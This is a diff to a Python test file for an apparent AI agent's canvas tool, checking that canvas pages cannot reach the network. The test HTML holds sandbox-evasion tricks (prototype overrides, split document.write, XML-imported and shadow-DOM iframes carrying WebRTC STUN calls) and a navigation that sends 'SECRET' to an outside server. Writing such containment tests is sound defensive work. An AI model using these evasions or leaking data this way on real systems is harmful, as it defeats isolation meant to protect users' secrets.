@@ -42,9 +42,24 @@ const tries = {
 };
 const call = `<scr` + `ipt>const call = new RTCPeerConnection({iceServers: [{urls: "stun:UDP"}]});
   call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer));</scr` + `ipt>`;
-for (const how of ["property", "attribute", "html"]) {
+Element.prototype.remove = String.prototype.includes = () => false;
+document.write("<iframe src");
+document.write(`doc='${call}'></iframe>`);
+const sheet = new XMLHttpRequest();
+sheet.onload = () => {
+  document.documentElement.append(document.importNode(sheet.responseXML.documentElement.firstElementChild, true));
+};
+sheet.open("GET", "sheet.xml");
+sheet.send();
+for (const how of ["property", "attribute", "html", "shadow"]) {
   const frame = document.createElement("iframe");
   try {
+    if (how === "shadow") {
+      document.getElementById("out").before(document.createElement("b"));
+      frame.srcdoc = call;
+      document.querySelector("b").attachShadow({mode: "closed"}).append(frame);
+      continue;
+    }
     if (how === "property") frame["src" + "doc"] = call;
     else if (how === "attribute") frame.setAttribute("src" + "doc", call);
     document.documentElement.append(frame);
@@ -58,6 +73,10 @@ Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
   document.getElementById("out").textContent = `reached: ${reached.join(" ") || "nothing"}`;
 });
 </script>"""
+SHEET = """<r><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>
+  const call = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});
+  call.createDataChannel('x'); call.createOffer().then((offer) => call.setLocalDescription(offer));
+  &lt;/script>"/></r>"""
 HEARD = web.AppKey("heard", list[str])
 SURFACE = [
     {
@@ -147,11 +166,12 @@ async def test_a_page_of_the_canvas_reaches_nothing_and_is_read_and_loaded_again
     calling = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     calling.bind(("127.0.0.1", 0))
     calling.setblocking(False)
-    html = html.replace("UDP", f"127.0.0.1:{calling.getsockname()[1]}")
+    html, sheet = (each.replace("UDP", f"127.0.0.1:{calling.getsockname()[1]}") for each in (html, SHEET))
 
     told = await run(
         hub,
         model_server,
+        calls("write", path="canvas/sheet.xml", content=sheet),
         calls("write", path="canvas/index.html", content=html),
         calls("canvas", action="present"),
     )
@@ -167,7 +187,7 @@ async def test_a_page_of_the_canvas_reaches_nothing_and_is_read_and_loaded_again
     leaving = f"setTimeout(() => {{ location = '{outside.make_url('/')}?q=SECRET'; }}); 'leaving'"
     left = await run(hub, model_server, calls("canvas", action="eval", script=leaving))
 
-    assert told[1] == "The canvas shows index.html."
+    assert told[2] == "The canvas shows index.html."
     assert "reached: nothing2" in asked[0]
     assert "<<<outside" in asked[0]
     assert "reached: nothing" in asked[1]
